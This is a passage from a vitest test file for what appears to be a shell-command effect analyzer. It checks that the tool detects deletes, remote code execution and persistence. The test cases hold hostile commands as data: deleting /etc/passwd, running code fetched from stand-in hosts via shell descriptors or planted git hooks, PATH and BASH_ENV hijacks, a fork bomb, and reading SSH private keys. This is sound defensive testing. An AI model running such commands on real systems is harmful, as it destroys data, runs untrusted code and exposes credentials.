// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text
import { describe, expect, test } from 'vitest'
import { facts, lines } from './harness.ts'

/** What commands were seen to do under strace, and their effects did not tell. */

const WORLD = { files: { '/repo/a.txt': 'a', '/repo/dir/c.txt': 'c', '/repo/mk': 'all:\n\techo x\n' } }

describe('programs that go elsewhere', () => {
  for (const [text, expected] of [
    [`python3 -c "import os; os.chdir('dir'); open('x', 'w')"`, 'write /repo/dir/x'],
    [`python3 -c "import os; os.chdir('/etc'); os.remove('passwd')"`, 'delete /etc/passwd'],
    [`python3 -c "import os; os.chdir('dir'); os.chdir('..'); open('x', 'w')"`, 'write /repo/x'],
    [`python3 -c "import os; os.chdir('dir'); os.system('rm x')"`, 'delete /repo/dir/x'],
    [`python3 -c "import subprocess as s; s.run(['rm', 'x'], cwd='/etc')"`, 'delete /etc/x'],
    [`python3 -c "import subprocess as s; s.run('rm x', shell=True, cwd='/etc'); s.run(['rm', 'y'])"`, 'delete /repo/y'],
    [`python3 -c "import shutil; shutil.copytree('dir', 'd2')"`, 'write fs:copy /repo/d2'],
    [`node -e "process.chdir('/etc'); require('fs').unlinkSync('passwd')"`, 'delete /etc/passwd'],
    [`node -e "require('child_process').execSync('rm x', { cwd: '/etc' })"`, 'delete /etc/x'],
    [`node -e "require('child_process').spawn('rm', ['x'], { cwd: 'dir' })"`, 'delete /repo/dir/x'],
    [`perl -e 'chdir "dir"; unlink "x"'`, 'delete /repo/dir/x'],
    [`php -r 'chdir("dir"); unlink("x");'`, 'delete /repo/dir/x'],
    [`ruby -e 'Dir.chdir("dir"); File.delete("x")'`, 'delete /repo/dir/x'],
    [`ruby -e 'Dir.chdir("dir") { File.delete("x") }; File.delete("y")'`, 'likely delete /repo/dir/x'],
    [`ruby -e 'Dir.chdir("dir") { File.delete("x") }; File.delete("y")'`, 'delete /repo/y'],
  ] as const) {
    test(`${text}: ${expected}`, () => expect(lines(text, WORLD)).toContain(expected))
  }

  test('nobody knows where: relative names have no place', () => {
    expect(lines(`python3 -c "import os, sys; os.chdir(sys.argv[1]); os.remove('x')"`, WORLD)).not.toContain('delete /repo/x')
  })
})

describe('functions that not every way defines', () => {
  for (const [text, expected] of [
    ['if [ -f z ]; then f() { rm y1; }; else f() { rm y2; }; fi; f', ['possible delete /repo/y1', 'possible delete /repo/y2']],
    ['false || f() { rm y1; }; f', ['delete /repo/y1']],
    ['x || f() { rm y1; }; f', ['possible delete /repo/y1', 'possible execute program:unknown f']],
    ['x || rm() { command rm "$1.own"; }; rm y', ['possible delete /repo/y', 'possible delete /repo/y.own']],
    ['case $1 in a) f() { rm y1; } ;; b) f() { rm y2; } ;; esac; f', ['possible delete /repo/y1', 'possible delete /repo/y2']],
    ['[ -f z ] && f() { x=b; }; x=a; f; rm "$x"', ['delete ?']],
    ['x || f() { rm a; }; f() { rm b; }; f', ['delete /repo/b']],
  ] as const) {
    test(text, () => {
      const told = lines(text, WORLD).map((line) => (line.endsWith('"$x"') ? 'delete ?' : line))
      for (const line of expected) expect(told).toContain(line)
      expect(told).not.toContain('delete /repo/a')
    })
  }
})

describe('what a substitution reads of a file', () => {
  for (const [text, expected] of [
    ['echo a.txt > l; rm $(< l)', 'delete /repo/a.txt'],
    ['echo a > l; x=$(<l); rm "$x.txt"', 'delete /repo/a.txt'],
    ['echo rm > l; $(< l) a.txt', 'delete /repo/a.txt'],
    ['rm "$(< a.txt)"', 'delete /repo/a'],
    ['$(< dir/c.txt)2', 'likely execute program:unknown c2'],
    ['$(< dir/none.txt)2', 'opaque'],
  ] as const) {
    test(text, () => {
      const told = lines(text, WORLD)
      expect(told.filter((line) => line.startsWith(expected)).length, told.join('\n')).toBeGreaterThan(0)
    })
  }
})

describe('where a way in may have failed', () => {
  for (const [text, expected] of [
    ['cd dir && make || rm x', ['possible delete /repo/x', 'possible delete /repo/dir/x']],
    ['cd dir && rm x || rm y', ['delete /repo/dir/x', 'possible delete /repo/y']],
    ['if cd dir; then rm x; else rm y; fi', ['possible delete /repo/dir/x', 'possible delete /repo/y']],
    ['if cd nowhere; then rm x; elif cd dir; then rm y; fi', ['possible delete /repo/dir/y']],
    ['false && cd dir; rm x', ['delete /repo/x']],
    ['true || cd dir; rm x', ['delete /repo/x']],
    ['false && rm x; rm y', ['possible delete /repo/x', 'delete /repo/y']],
    ['false() { true; }; false && cd dir; rm x', ['delete /repo/dir/x']],
  ] as const) {
    test(text, () => {
      for (const line of expected) expect(lines(text, WORLD)).toContain(line)
    })
  }
})

describe('what holds after it', () => {
  for (const [text, expected] of [
    ["sh -c 'x=a; x=b eval true; rm $x'", 'delete /repo/b'],
    ["bash -c 'x=a; x=b eval true; rm $x'", 'delete /repo/a'],
    ["dash -c 'x=a; x=b ls; rm $x'", 'delete /repo/a'],
    ['x || a=(p q); rm "${#a[@]}"', 'delete '],
    ['declare -l lo=UP; rm "$lo"', 'delete /repo/up'],
    ['declare -u up; up=down; rm "$up"', 'delete /repo/DOWN'],
    ['f() { local IFS=,; rm "$*"; }; f a b', 'delete /repo/a,b'],
    ['IFS=:; set -- a b; rm "$*"', 'delete /repo/a:b'],
    ['export c=x; export -n c; c=y; rm "$c"', 'delete /repo/y'],
    ['perl -i.bak -pe1 a.txt; rm a.txt.bak', 'delete /repo/a.txt.bak'],
    ['a=(p q); rm "${#a[@]}"', 'delete /repo/2'],
    ['a=(p q); x || a=(r); rm "${#a[@]}"', 'delete '],
  ] as const) {
    test(text, () => {
      const told = lines(text, WORLD).filter((line) => line.startsWith('delete '))
      if (expected === 'delete ') expect(told.some((line) => /\/repo\/\d/.test(line))).toBe(false)
      else expect(told).toEqual([expected])
    })
  }
})

describe('what make runs', () => {
  const MK = (text: string): string => `cat > mk <<'E'\n${text}\nE\n`
  for (const [text, expected] of [
    [`${MK('A = x\nB = $(A)y\nall:\n\trm $(B)')}make -f mk`, ['delete /repo/xy']],
    [`${MK('all: ; rm x')}make -f mk`, ['delete /repo/x']],
    [`${MK('X := a\nall: ; rm $(X)')}make -f mk X=b`, ['delete /repo/b']],
    [`${MK('A := $(shell rm x)\nall: ; true')}make -f mk`, ['delete /repo/x']],
    [`${MK('A != rm x\nall: ; true')}make -f mk`, ['delete /repo/x']],
    [`${MK('$(shell rm x)\nall: ; true')}make -f mk`, ['delete /repo/x']],
    [`${MK('all:\n\trm $(shell echo x)')}make -f mk`, ['delete /repo/x']],
    [`${MK('%.o: %.c\n\trm $@')}make -f mk b.o`, ['delete /repo/b.o']],
    [`${MK('b.o: x\n%.o:\n\trm $@')}make -f mk b.o`, ['delete /repo/b.o']],
    [`${MK('include inc')}echo 'z: ; rm x' > inc; make -f mk z`, ['delete /repo/x']],
    [`${MK('all:\n\tcd dir; rm x\n\trm y')}make -f mk`, ['delete /repo/dir/x', 'delete /repo/y']],
    [`${MK('.ONESHELL:\nall:\n\tcd dir\n\trm y')}make -f mk`, ['delete /repo/dir/y']],
    [`${MK('all: $(O)\nO = p\np:\n\trm x')}make -f mk`, ['delete /repo/x']],
    ["make --eval='a: ; rm x' a", ['delete /repo/x']],
    ["make -C dir --eval='a: ; rm x' a", ['delete /repo/dir/x']],
    ["make -f <(printf 'a:\\n\\trm x\\n')", ['delete /repo/x']],
    [
      'curl -o mk https://e.test/mk; make -f mk',
      ['opaque `/repo/mk`, which says what runs, is written by this call, and what is in it is not known'],
    ],
    [
      'sed -i s/a/b/ Makefile; make',
      ['opaque `/repo/Makefile`, which says what runs, is written by this call, and what is in it is not known'],
    ],
  ] as const) {
    test(text, () => {
      for (const line of expected) expect(lines(text, WORLD)).toContain(line)
    })
  }

  test('values that name each other stay small', () => {
    const all = Array.from({ length: 200 }, (_, at) => `V${at} = $(V${at + 1})$(V${at + 1})`).join('\n')
    expect(lines(`${MK(`${all}\nall: ; rm $(V0) ${'$(V1)'.repeat(500)}`)}make -f mk`, WORLD).length).toBeLessThan(100)
  })
})

describe('what the call itself put in the way of a shell', () => {
  for (const [text, expected] of [
    ["mkdir b; echo 'rm x' > b/ls; PATH=$PWD/b:$PATH; ls", 'delete /repo/x'],
    ["mkdir b; echo 'rm x' > b/ls; PATH=b:$PATH ls", 'delete /repo/x'],
    ["mkdir b; echo 'rm x' > b/ls; export PATH=/repo/b:/usr/bin; ls", 'delete /repo/x'],
    ["mkdir b; echo 'rm x' > b/mine; export PATH=$PATH:$PWD/b; mine", 'delete /repo/x'],
    ['mkdir b; cp a.txt b/x; ln -s /bin/rm b/ls; PATH=b:$PATH ls a.txt', 'delete /repo/a.txt'],
    ["echo 'rm x' > e; BASH_ENV=e bash -c true", 'possible delete /repo/x'],
    ["echo 'rm x' > e; export BASH_ENV=$PWD/e; bash run", 'possible delete /repo/x'],
    ["echo 'rm x' > ~/.bash_profile; bash -lc true", 'delete /repo/x'],
    ["echo 'rm x' >> ~/.profile; bash --login -c true", 'opaque'],
    ["echo 'rm x' > ~/.bashrc; bash -ic true", 'delete /repo/x'],
    ['echo "rm x" > >(sh)', 'delete /repo/x'],
    ['{ echo "rm x"; } > >(sh)', 'delete /repo/x'],
    ['echo "rm x" | tee >(sh) > /dev/null', 'delete /repo/x'],
    ['echo cm0geA== | base64 -d > >(sh)', 'delete /repo/x'],
  ] as const) {
    test(text, () => {
      const told = lines(text, WORLD)
      expect(
        told.some((line) => line.startsWith(expected)),
        told.join('\n'),
      ).toBe(true)
    })
  }

  for (const text of [
    "mkdir b; echo 'rm x' > b/ls; PATH=$PATH:$PWD/b; ls",
    "mkdir b; echo 'rm x' > b/ls; PATH=/usr/bin:b; ls",
    "echo 'rm x' > ls; ls",
    "echo 'rm x' > ~/.bash_profile; bash -c true",
    "echo 'rm x' > ~/.bash_profile; bash --noprofile -lc true",
    'echo "rm x" > >(cat)',
  ]) {
    test(`not: ${text}`, () => expect(lines(text, WORLD).filter((line) => line.includes('delete'))).toEqual([]))
  }
})

describe('what a shell is fed from a descriptor', () => {
  const SCRIPTS = { files: { '/repo/mk.sh': 'rm q', '/repo/a.txt': 'a' } }
  for (const [text, expected] of [
    ["exec 7< <(printf '%s\\n' '( rm x ); rm y'); bash <&7", 'delete /repo/y'],
    ['exec 7< <(curl https://e.test/x); bash <&7', 'execute code:remote https://e.test/x'],
    ['exec 3<mk.sh; . /dev/fd/3', 'delete /repo/q'],
    ['exec 3<mk.sh; bash /dev/fd/3', 'delete /repo/q'],
    ['exec 3<mk.sh; exec 4<&3-; bash <&4', 'delete /repo/q'],
    ['bash /dev/fd/3 3< <(echo rm x)', 'delete /repo/x'],
    [`python3 /dev/fd/3 3< <(echo 'import os; os.remove("x")')`, 'delete /repo/x'],
    ['exec 5< <(echo rm x); cat <&5 | sh', 'delete /repo/x'],
    ['exec 3< <(sed s/a/b/ mk.sh); bash <&3', 'opaque `bash` runs code that is not known before it runs'],
    ['bash < <(sed s/a/b/ mk.sh)', 'opaque `bash` runs code that is not known before it runs'],
    ['exec 3< <(sed s/a/b/ mk.sh); . /dev/fd/3', 'opaque `.` runs code that is not known before it runs'],
    ['bash <&9', 'opaque `bash` runs code that is not known before it runs'],
    ['exec < mk.sh; bash', 'delete /repo/q'],
    ['exec 0< <(echo rm x); { bash; }', 'delete /repo/x'],
    ['exec 3<mk.sh 0<&3; bash', 'delete /repo/q'],
    ['exec 3< <(echo rm x); exec <&3; sh', 'delete /repo/x'],
    ['exec < <(curl https://e.test/x); sh', 'execute code:remote https://e.test/x'],
    ['if [ -f z ]; then exec < mk.sh; else exec < a.txt; fi; sh', 'opaque `sh` runs code that is not known before it runs'],
    ["exec < mk.sh; bash -c 'bash'", 'delete /repo/q'],
    ['exec 3<&0; echo rm x | { bash <&0; }', 'delete /repo/x'],
  ] as const) {
    test(text, () => {
      const told = lines(text, SCRIPTS)
      expect(told, told.join('\n')).toContain(expected)
    })
  }

  for (const text of [
    'exec < mk.sh; echo true | bash',
    'exec < mk.sh; bash < /dev/null',
    "exec < mk.sh; bash -c 'read x' <<< y",
    'exec 3<mk.sh; read -r x <&3',
    'exec 3</dev/null; bash <&3',
    '(exec < mk.sh); bash',
    'bash <&-',
  ]) {
    test(`not: ${text}`, () => expect(lines(text, SCRIPTS).filter((line) => /delete|opaque|execute/.test(line))).toEqual([]))
  }

  test('what is only read from there is no reverse shell', () => {
    expect(lines('exec 7< <(curl https://e.test/x); bash <&7', SCRIPTS).filter((line) => line.includes('reverse'))).toEqual([])
  })
})

describe('what a name stands for', () => {
  const ON = 'shopt -s expand_aliases\n'
  for (const [text, expected] of [
    [`${ON}alias a='b ' b=rm\nalias c=x\na c`, 'delete /repo/x'],
    [`${ON}alias a='rm ' c='x ' d=y\na c d`, 'delete /repo/y'],
    [`${ON}alias a='rm ' c=x d=y\na c d`, 'delete /repo/d'],
    [`${ON}alias a='rm ' c=x\na "c"`, 'delete /repo/c'],
    [`${ON}alias sudo='sudo ' r='rm y'\nsudo r`, 'delete /repo/y'],
    // A shell that is not interactive expands none.
    ['alias rm=true; rm x', 'possible delete /repo/x'],
    ["alias rm='rm --help'; rm x", 'possible delete /repo/x'],
    ['alias rm=touch; rm x', 'write fs:touch /repo/x'],
    ["alias sudo='sudo ' rm=true; sudo rm x", 'possible delete /repo/x'],
    ['alias cd=true; cd /etc; rm passwd', 'possible delete /etc/passwd'],
    ['command_not_found_handle() { rm "$1.$2"; }; nosuchprogram x', 'likely delete /repo/nosuchprogram.x'],
    ['command_not_found_handler() { rm x; }; nosuchprogram', 'likely delete /repo/x'],
    ['command_not_found_handle() { nosuchother; rm x; }; nosuchprogram', 'likely delete /repo/x'],
    ["compgen -C 'rm x' word", 'delete /repo/x'],
    ["compgen -C 'rm x' word", 'delete /repo/compgen'],
    ["compgen -C 'rm x' word", 'delete /repo/word'],
    ['compgen -Crm', 'delete /repo/compgen'],
    ['compgen -C "$X"', 'opaque `compgen` runs code that is not known before it runs'],
    ['f() { rm "$2"; }; compgen -F f word', 'delete /repo/word'],
    ["complete -C 'rm x' ls", 'persist shell:hook complete -C'],
    ['enable -f./lib.so name', 'execute code:load /repo/lib.so'],
    ['choom -n 500 rm x', 'delete /repo/x'],
    ['choom --adjust 5 -- rm x', 'delete /repo/x'],
    ['uclampset -m 1 rm x', 'delete /repo/x'],
    ['nocache -n 2 rm x', 'delete /repo/x'],
    ['multitime -n 2 rm x', 'delete /repo/x'],
    ['runcon system_u:system_r:x rm x', 'delete /repo/x'],
    ['aa-exec -p unconfined rm x', 'delete /repo/x'],
    ['sandbox-exec -p x rm x', 'delete /repo/x'],
    ['taskpolicy -b rm x', 'delete /repo/x'],
    ['lckdo -w lock rm x', 'delete /repo/x'],
    ['run-one rm x', 'delete /repo/x'],
  ] as const) {
    test(text, () => {
      const told = lines(text, WORLD)
      expect(told, told.join('\n')).toContain(expected)
    })
  }

  for (const text of [
    'command_not_found_handle() { rm x; }; ls',
    "alias l='ls -l'; l x",
    'choom -p 12',
    `${ON}alias a=touch c=x\na c; rm() { true; }`,
    "alias a=true; compgen -W 'a b' rm",
  ]) {
    test(`not: ${text}`, () => expect(lines(text, WORLD).filter((line) => /delete|opaque/.test(line))).toEqual([]))
  }

  test('aliases of each other end', () => {
    const all = Array.from({ length: 60 }, (_, at) => `a${at}='a${at + 1} ; a${at + 1} '`).join(' ')
    expect(facts(`alias ${all}; a0`, WORLD).coverage).toBe('partial')
  })
})

describe('where a last way in may have failed', () => {
  for (const [text, expected] of [
    ['echo "cd dir" > c.sh; . ./c.sh; . ../c.sh; rm here', 'delete /repo/dir/here'],
    ['f() { cd dir; }; f; f; rm here', 'delete /repo/dir/here'],
    ['eval "cd nowhere"; rm here', 'delete /repo/here'],
    ['f() { cd dir; }; f; rm here', 'delete /repo/dir/here'],
    ['mkdir new; f() { cd new; }; f; rm here', 'delete /repo/new/here'],
  ] as const) {
    test(text, () => expect(lines(text, WORLD)).toContain(expected))
  }
})

describe('patterns in either case', () => {
  const FILES = { files: { '/repo/a.TXT': 'a', '/home/me/.ssh/id_rsa': 'k' } }
  for (const [text, expected] of [
    ['shopt -s nocaseglob; rm A.t*', 'delete /repo/[aA].[tT]*'],
    ['shopt -s nocaseglob; rm [b-d]/X?[!Q]', 'delete /repo/[b-dB-D]/[xX]?[!qQ]'],
    ['shopt -s nocaseglob; rm -- *', 'delete /repo'],
    ['shopt -s nocaseglob; rm DIR/A.txt', 'delete /repo/DIR/A.txt'],
    ['shopt -u nocaseglob; rm A.t*', 'delete /repo/A.t*'],
    ['shopt -s nocaseglob; for f in A.t*; do rm "$f"; done', 'delete /repo/[aA].[tT]*'],
  ] as const) {
    test(text, () => {
      const told = lines(text, FILES)
      expect(
        told.some((line) => line.endsWith(expected)),
        told.join('\n'),
      ).toBe(true)
    })
  }

  test('secrets are known in either case', () => {
    const classes = facts('shopt -s nocaseglob; cat ~/.ssh/ID_R*', FILES).effects.flatMap((item) => item.target.classes)
    expect(classes).toContain('credential')
  })
})

describe('copies that are kept', () => {
  for (const [text, expected] of [
    ['perl -i.bak -pe1 a.txt', 'write fs:copy /repo/a.txt.bak'],
    ["perl -pi.orig -e 's/a/b/' dir/c.txt", 'write fs:copy /repo/dir/c.txt.orig'],
    ["perl -i'old_*' -pe1 dir/c.txt", 'write fs:copy /repo/dir/old_c.txt'],
    ["perl -i'../*.o' -pe1 c.txt", 'write fs:copy /c.txt.o'],
  ] as const) {
    test(text, () => expect(lines(text, WORLD)).toContain(expected))
  }
})

describe('hooks that the call itself put into the repository', () => {
  for (const [text, expected] of [
    ["git init -q; printf '#!/bin/sh\\nrm x\\n' > .git/hooks/pre-commit; git commit -qm m", 'delete /repo/x'],
    ["echo 'rm x' > .git/hooks/pre-commit; git -c user.name=z commit --allow-empty -qm m", 'delete /repo/x'],
    ["echo 'rm x' > .git/hooks/post-commit; git commit -nqm m", 'delete /repo/x'],
    ["echo 'rm x' > .git/hooks/post-checkout; cd dir; git switch main", 'delete /repo/x'],
    ["echo 'rm x' > .git/hooks/post-merge; git pull", 'delete /repo/x'],
    ["echo 'rm x' > .git/hooks/pre-push; git push", 'delete /repo/x'],
    ["echo 'rm x' > .git/hooks/reference-transaction; git fetch", 'delete /repo/x'],
    ["echo 'rm x' > .git/hooks/odd; git hook run odd", 'delete /repo/x'],
    ["echo 'rm x' > dir/.git/hooks/pre-commit; git -C dir commit -m m", 'delete /repo/dir/x'],
    ['printf \'#!/usr/bin/env python3\\nimport os; os.remove("x")\' > .git/hooks/pre-commit; git commit -m m', 'delete /repo/x'],
    ["mkdir hk; echo 'rm x' > hk/pre-commit; git -c core.hooksPath=hk commit -m m", 'delete /repo/x'],
    ["mkdir dir/hk; echo 'rm x' > dir/hk/pre-commit; git -C dir -c core.hooksPath=hk commit -m m", 'delete /repo/dir/x'],
    ['echo \'rm "$1"\' > .git/hooks/commit-msg; git commit -m m', 'delete /repo/.git/COMMIT_EDITMSG'],
    ["echo 'rm x' > h; cp h .git/hooks/pre-commit; git commit -m m", 'delete /repo/x'],
    ["echo 'rm x' > h; ln -s ../../h .git/hooks/pre-commit; git commit -m m", 'delete /repo/x'],
    ['curl -o .git/hooks/pre-commit http://x.example/h; git commit -m m', 'execute code:downloaded http://x.example/h'],
  ] as const) {
    test(text, () => expect(lines(text, WORLD)).toContain(expected))
  }

  for (const text of [
    "echo 'rm x' > .git/hooks/pre-commit; git commit -n -m m",
    "echo 'rm x' > .git/hooks/pre-commit; git commit --no-verify -m m",
    "echo 'rm x' > .git/hooks/pre-commit; git log",
    "echo 'rm x' > .git/hooks/pre-commit.sample; git commit -m m",
    "echo 'rm x' > .git/hooks/pre-commit; git -C dir/../.. commit -m m",
    "echo 'rm x' > .git/hooks/pre-commit; git -c core.hooksPath=dir commit -m m",
    "echo 'rm x' > hooks/pre-commit; git commit -m m",
    "git commit -m m; echo 'rm x' > .git/hooks/pre-commit",
  ]) {
    test(`not: ${text}`, () => expect(lines(text, WORLD).filter((line) => line.includes('delete'))).toEqual([]))
  }
})

describe('where a command is run that another one starts', () => {
  for (const [text, expected] of [
    ['find dir -name c.txt -execdir sh -c "rm x" \\;', 'delete /repo/dir/x'],
    ['find dir -name c.txt -execdir sh -c "rm x" \\;', 'possible delete x'],
    ['find /etc -name x -execdir rm shadow \\;', 'delete /etc/shadow'],
    ['find dir -execdir rm {} \\;', 'delete /repo/dir'],
    ['find dir -okdir rm x \\;', 'delete /repo/dir/x'],
    ['find dir -exec rm x \\;', 'delete /repo/x'],
    ["git -C dir -c alias.t='!rm x' t", 'delete /repo/dir/x'],
    ["cd dir; git -c alias.t='!rm x' t", 'delete /repo/dir/x'],
    ["git -C dir -c alias.t='rm --cached x' t", 'change git:index dir'],
    ["git -C dir -c alias.t='clean -f y' t", 'delete git:discard /repo/dir/y'],
  ] as const) {
    test(`${text}: ${expected}`, () => expect(lines(text, WORLD)).toContain(expected))
  }

  test('an alias runs at the top of the work tree', () => {
    const git = { '/repo': { top: '/repo', branch: 'main', remotes: {}, aliases: { t: '!rm x' } } }
    for (const text of ['git t', 'cd dir; git t', 'git -C dir t', 'cd /; git -C repo/dir t']) {
      expect(lines(text, { ...WORLD, git }), text).toContain('delete /repo/x')
    }
  })
})

describe('files that nobody names', () => {
  for (const [text, expected] of [
    ['cp -b a.txt b.txt', ['write fs:copy /repo/b.txt~', 'write fs:copy /repo/b.txt']],
    ['cp --backup=numbered a.txt b.txt', ['write fs:copy b.txt.~…']],
    ['mv -S .old a.txt dir', ['write fs:copy /repo/dir/a.txt.old', 'write fs:move /repo/dir/a.txt']],
    ['install -b a.txt b.txt', ['write fs:copy /repo/b.txt~']],
    ['ln -sb a.txt b.txt', ['write fs:copy /repo/b.txt~']],
    ["echo 'rm x' > b; cp -b a.txt b; sh b~", ['delete /repo/x']],
    ['rmdir -p a/b/c', ['delete fs:rmdir /repo/a/b/c', 'delete fs:rmdir /repo/a/b', 'delete fs:rmdir /repo/a']],
    ['rmdir -p /a//b/', ['delete fs:rmdir /a/b', 'delete fs:rmdir /a']],
    ['TMPDIR=dir mktemp', ['write fs:touch /repo/dir/tmp.XXXXXXXXXX']],
    ['export TMPDIR=$PWD/dir; mktemp -d', ['write fs:touch /repo/dir/tmp.XXXXXXXXXX']],
    ['TMPDIR= mktemp', ['write fs:touch /tmp/tmp.XXXXXXXXXX']],
    ['TMPDIR=dir mktemp -p /srv', ['write fs:touch /srv/tmp.XXXXXXXXXX']],
    ['gzip -r dir', ['write archive:compress /repo/dir', 'delete archive:compress /repo/dir']],
    ['gzip -S .zz b.txt', ['write archive:compress /repo/b.txt.zz']],
    ['gzip -dS .zz b.txt.zz', ['write archive:expand /repo/b.txt']],
    ['xz --suffix=.y b.txt', ['write archive:compress /repo/b.txt.y']],
    ['zstd -S x b.txt', ['write archive:compress /repo/b.txt.zst']],
    ['python3 -m zipfile -c x.zip a.txt', ['read /repo/a.txt', 'write archive:create /repo/x.zip']],
    ['python3 -m zipfile -e x.zip out', ['read /repo/x.zip', 'write archive:extract /repo/out']],
    ['python3 -m tarfile --create x.tar a.txt dir', ['write archive:create /repo/x.tar', 'read /repo/dir']],
    ['python3 -m tarfile -e x.tar', ['write archive:extract /repo']],
    ['python3 -m gzip a.txt', ['write archive:compress /repo/a.txt.gz']],
    ['python3 -m gzip -d a.txt.gz', ['write archive:expand /repo/a.txt']],
  ] as const) {
    test(text, () => {
      for (const line of expected) expect(lines(text, WORLD)).toContain(line)
    })
  }

  for (const text of [
    'cp --backup=none a.txt b.txt',
    'rmdir a/b',
    'python3 -m zipfile -l x.zip',
    'python3 -m tarfile --help',
    'python3 -m gzip -',
  ]) {
    test(`not: ${text}`, () => {
      const told = lines(text, WORLD).filter((line) => /^(?:write|delete) /.test(line))
      expect(told.filter((line) => !/ \/repo\/(?:b\.txt|a\/b)$/.test(line))).toEqual([])
    })
  }
})

describe('what stands behind an alias of git is its own', () => {
  for (const [text, expected] of [
    [`git -c alias.z='!f() { "$@"; }; f' z sort -o out a.txt`, 'write /repo/out'],
    [`git -c alias.z='!f() { "$@"; }; f' z find dir -name c.txt -delete`, 'delete fs:remove /repo/dir'],
    ["git -c alias.z='!rm' z -rf 'a b'", 'delete /repo/a b'],
    ["git -c alias.z='!rm' z -- -x", 'delete /repo/-x'],
    [`git -c alias.z='!echo' z 'x; rm y'`, ''],
    ['git -c alias.z=reset z --hard', 'change git:discard .'],
  ] as const) {
    test(text, () =>
      expect(
        lines(text, WORLD)
          .filter((line) => !line.startsWith('read '))
          .join(),
      ).toBe(expected),
    )
  }
})

describe('a target of make that is not known may be any', () => {
  const MADE = { files: { '/repo/Makefile': 'all:\n\trm a\nclean-x: dep\n\trm b\nclean-y:\n\trm c\ndep:\n\trm d\n%.o:\n\trm $@\n' } }
  const all = ['a', 'b', 'c', 'd'].map((name) => `possible delete /repo/${name}`)
  for (const [text, expected] of [
    ['make "$T"', all],
    ['make $T', all],
    ['case $1 in a) T=all ;; b) T=clean-x ;; esac; make -s "$T"', all],
    ['make "clean-$T"', all.slice(1)],
    ['make all "$T"', ['delete /repo/a', ...all]],
    ['make all', ['delete /repo/a']],
  ] as const) {
    test(text, () => {
      const told = lines(text, MADE).filter((line) => / \/repo\/[a-d]$/.test(line))
      expect(new Set(told)).toEqual(new Set(expected))
    })
  }

  test('more targets than can be followed are said to be', () => {
    const names = Array.from({ length: 200 }, (_, at) => `t${at}`)
    const text = `all: ${names.join(' ')}\n${names.map((name) => `${name}:\n\ttrue\n`).join('')}`
    expect(facts('make', { files: { '/repo/Makefile': text } }).coverage).toBe('partial')
    expect(facts('make t7', { files: { '/repo/Makefile': text } }).coverage).toBe('full')
  })
})

describe('sed in place with an empty word: a script to one sed, a suffix to the other', () => {
  for (const [text, expected] of [
    ['sed -i "" a.txt', ['read /repo/a.txt', 'write text:edit /repo/a.txt']],
    [
      'v=; sed -i "$v" a.txt dir/c.txt',
      ['read /repo/a.txt', 'write text:edit /repo/a.txt', 'read /repo/dir/c.txt', 'write text:edit /repo/dir/c.txt'],
    ],
    ["sed -i '' s/a/b/ a.txt", ['read /repo/a.txt', 'write text:edit /repo/a.txt']],
    ["echo x > new; sed -i '' new", ['write /repo/new', 'read /repo/new', 'write text:edit /repo/new']],
  ] as const)
    test(text, () => expect(lines(text, WORLD)).toEqual(expected))
})

describe('a link to the place of something that the call made is perhaps not made', () => {
  for (const [text, expected] of [
    ['echo > l; ln -s dir l; cd l; touch z', ['certain /repo/dir/z', 'possible /repo/l/z', 'possible /repo/z']],
    ['echo > l; rm l; ln -s dir l; cd l; touch z', ['certain /repo/dir/z']],
    ['echo > l; ln -sf dir l; cd l; touch z', ['certain /repo/dir/z']],
    ["flock lk -c 'ln -s dir lk; cd lk; touch z'", ['likely /repo/lk', 'certain /repo/dir/z', 'possible /repo/lk/z', 'possible /repo/z']],
    ['flock a.txt touch z', ['certain /repo/z']],
    ['flock 9 touch z', ['certain /repo/z']],
  ] as const)
    test(text, () => {
      const told = facts(text, WORLD).effects.filter(({ action }) => action === 'fs:touch')
      expect(told.map(({ certainty, target }) => `${certainty} ${target.real}`)).toEqual(expected)
    })
})

describe('a directory that may not be there', () => {
  for (const [text, expected] of [
    ['cd nowhere && rm x || rm y; rm z', 'delete /repo/z'],
    ['cd nowhere || exit; rm z', 'delete /repo/nowhere/z'],
    ['cd nowhere || exec true; rm z', 'delete /repo/z'],
    ['cd nowhere && rm x || exec > log; rm z', 'delete /repo/z'],
    ['cd nowhere && rm x; rm z', 'delete /repo/z'],
    ['ls a.txt || ln -s dir link; cd link; rm z', 'possible delete /repo/z'],
    ['ln -s dir link; cd link; rm z', 'delete /repo/dir/z'],
    ['[ -d new ] || mkdir new; cd new; rm z', 'delete /repo/new/z'],
    ['tar -cf t.tar dir; cd nowhere; rm z', 'delete /repo/z'],
    ['tar -xf t.tar; cd nowhere; rm z', 'delete /repo/nowhere/z'],
    ['rm a; kill 5; cd nowhere; rm z', 'delete /repo/z'],
    ['git clone https://x.example/r nowhere; cd nowhere; rm z', 'delete /repo/nowhere/z'],
    ['cd dir || cd nowhere; rm z', 'delete /repo/dir/z'],
    ['rm -r dir; cd dir; rm z', 'delete /repo/z'],
    ['rm -rf dir; mkdir dir; cd dir; rm z', 'delete /repo/dir/z'],
    ['rm -rf dir; git clone https://x.example/r dir; cd dir; rm z', 'delete /repo/dir/z'],
    ['x && rm -rf other; cd dir; rm z', 'delete /repo/dir/z'],
    ['ls || rm -rf dir; cd dir; rm z', 'delete /repo/dir/z'],
  ] as const) {
    test(text, () => expect(lines(text, WORLD)).toContain(expected))
  }
})

describe('what only some ways switch on', () => {
  for (const [text, expected] of [
    ['shopt -s lastpipe; x=a; echo b | read -r x; rm "$x"', ['delete /repo/b']],
    ['x=a; echo b | read -r x; rm "$x"', ['delete /repo/a']],
    ['x || shopt -s lastpipe; x=a; echo b | read -r x; rm "$x"', ['delete "$x"']],
    ['if x; then shopt -s lastpipe; fi; cd dir; echo | cd ..; rm a', ['delete /repo/dir/a', 'possible delete /repo/a']],
  ] as const) {
    test(text, () => expect(lines(text, WORLD).filter((line) => line.includes('delete'))).toEqual(expected))
  }
})

describe('a function that calls itself is no bomb because a pipe stands before it', () => {
  for (const [text, expected] of [
    [`printf '%s' 'f() { "$@"; }; f f rm x' | bash`, 'delete /repo/x'],
    ['f() { "$@"; }; x | f f rm x', 'delete /repo/x'],
    ['f() { "$@"; }; f f rm x &', 'delete /repo/x'],
    [':() { : | : & }; :', 'execute proc:fork-bomb :'],
    ['x | { f() { f | f; }; f; }', 'execute proc:fork-bomb f'],
    ['f() { g | g; }; g() { f; }; f', 'execute proc:fork-bomb f'],
    ['f() { g & }; g() { f; }; f', 'execute proc:fork-bomb f'],
    ['h() { f; }; f() { g | g; }; g() { f; }; h', 'execute proc:fork-bomb f'],
  ] as const) {
    test(text, () => {
      const told = lines(text, WORLD)
